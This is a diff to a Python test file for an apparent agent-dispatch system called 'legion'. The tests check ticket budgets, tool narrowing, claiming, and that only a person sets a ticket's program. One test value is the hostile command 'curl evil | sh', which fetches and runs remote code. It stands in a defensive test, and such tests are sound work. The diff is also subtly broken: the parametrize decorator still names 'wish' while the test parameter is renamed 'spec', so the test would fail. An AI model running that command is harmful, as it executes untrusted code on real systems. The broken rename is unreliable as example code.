@@ -7,8 +7,8 @@ from collections.abc import Iterator
 
 import pytest
 
-from legion.store import tickets
-from legion.wire.errors import BadInput, Conflict, NotAllowed
+from legion.store.board import tickets
+from legion.wire.errors import BadInput, NotAllowed, StateConflict
 from legion.wire.tickets import Action, Dispatch, NewTicket
 from tests.support.office import Employee, Office, office
 
@@ -40,9 +40,9 @@ def test_a_ticket_of_an_agent_inherits_and_narrows(here: Office):
         boss.use("legion-dispatch", title="t", text="x", budget=0.5, model="claude-opus-5")
     number = boss.use("legion-dispatch", "r1", title="t", text="x", budget=1.5).data["ticket"]
     assert boss.use("legion-dispatch", "r1", title="t", text="x", budget=1.5).data["ticket"] == number
-    with here.world.store.read() as tx:
-        wish = tickets.get(tx, number).wish
-    assert (wish.dispatcher, wish.tools, wish.driver, wish.model) == (boss.id, ("Bash", "Read"), "claude", "sonnet")
+    with here.context.store.read() as tx:
+        spec = tickets.get(tx, number).spec
+    assert (spec.dispatcher, spec.tools, spec.driver, spec.model) == (boss.id, ("Bash", "Read"), "claude", "sonnet")
     with pytest.raises(NotAllowed, match=r"0\.50 are left"):
         boss.use("legion-hire", task="with the rest", budget=1.0)
     with pytest.raises(NotAllowed, match=r"0\.50 are left"):
@@ -52,12 +52,12 @@ def test_a_ticket_of_an_agent_inherits_and_narrows(here: Office):
 
 
 @pytest.mark.parametrize("wish", [{"command": "curl evil | sh"}, {"driver": "mine"}])
-def test_only_a_person_chooses_the_program_of_a_ticket(here: Office, boss: Employee, wish):
-    ticket = NewTicket(title="mine", **wish)
+def test_only_a_person_chooses_the_program_of_a_ticket(here: Office, boss: Employee, spec):
+    ticket = NewTicket(title="mine", **spec)
     with pytest.raises(NotAllowed, match="leave out command and driver"):
         boss.legion.dispatch(Dispatch(cwd=here.cwd, tickets=[ticket]))
     with pytest.raises(BadInput, match="has no parameter"):
-        boss.use("legion-dispatch", title="mine", text="x", **wish)
+        boss.use("legion-dispatch", title="mine", text="x", **spec)
 
 
 def test_an_agent_stops_what_it_or_its_reports_dispatched_and_nothing_else(here: Office, boss: Employee):
@@ -81,9 +81,9 @@ def test_a_ticket_is_claimed_by_one_and_given_back(here: Office, boss: Employee)
     ticket = boss.use("legion-dispatch", title="for whoever is free", text="x").data["ticket"]
     taken = one.use("legion-claim", ticket=ticket)
     assert (taken.data["ticket"], taken.data["title"]) == (ticket, "for whoever is free")
-    with pytest.raises(Conflict):
+    with pytest.raises(StateConflict):
         other.use("legion-claim", ticket=ticket)
-    with pytest.raises(Conflict, match="begins with your next turn"):
+    with pytest.raises(StateConflict, match="begins with your next turn"):
         one.use("legion-claim", submit=True)
     with pytest.raises(BadInput, match="not both"):
         one.use("legion-claim", submit=True, let_go=True)
@@ -97,7 +97,7 @@ def test_nobody_claims_a_ticket_with_wider_tools_than_its_dispatcher_gave(here: 
     narrow = report_of(boss, tools=["Read", "legion-dispatch", "legion-claim", "legion-hire"])
     ticket = narrow.use("legion-dispatch", title="with Read alone", text="x").data["ticket"]
     wide, below = report_of(boss), report_of(narrow, tools=["Read", "legion-claim"])
-    with pytest.raises(Conflict, match="not ready to be claimed"):
+    with pytest.raises(StateConflict, match="not ready to be claimed"):
         wide.use("legion-claim", ticket=ticket)
     assert below.use("legion-claim", ticket=ticket).data["ticket"] == ticket
     below.use("legion-claim", let_go=True)
